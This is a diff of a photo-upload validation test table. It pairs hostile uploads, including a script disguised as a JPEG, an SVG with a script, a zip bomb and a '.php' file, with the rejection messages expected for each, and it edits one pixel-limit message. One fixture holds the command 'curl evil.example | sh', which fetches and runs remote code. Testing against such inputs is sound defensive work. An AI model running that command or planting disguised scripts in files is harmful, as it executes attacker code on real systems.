@@ -405,7 +405,7 @@ PHOTO_CASES = {
     "a script disguised as a JPEG": ([("IMG_2031.jpg", b"#!/bin/sh\ncurl evil.example | sh\n\xff\xd8\xff\xe0")], 422, "cannot be opened as a photo"),
     "an SVG with a script": ([("logo.svg", SVG)], 422, "“logo.svg” is not a photo"),
     "an SVG with a script named as a JPEG": ([("logo.jpg", SVG)], 422, "“logo.jpg” cannot be opened as a photo"),
-    "a 100-megapixel PNG": ([("panorama.png", hundred_megapixels())], 422, "has too many pixels (100 megapixels, at most 50 million)"),
+    "a 100-megapixel PNG": ([("panorama.png", hundred_megapixels())], 422, "has too many pixels (100 megapixels, at most 16 million)"),
     "a zip bomb named as a PNG": ([("photos.png", zip_bomb())], 422, "“photos.png” cannot be opened as a photo"),
     "a real photo with a wrong extension": ([("photo.php", jpeg())], 422, "“photo.php” is not a photo"),
     "four photos where three are taken": ([(f"{n}.jpg", jpeg()) for n in range(4)], 422, "At most 3 photos can be sent; you chose 4"),
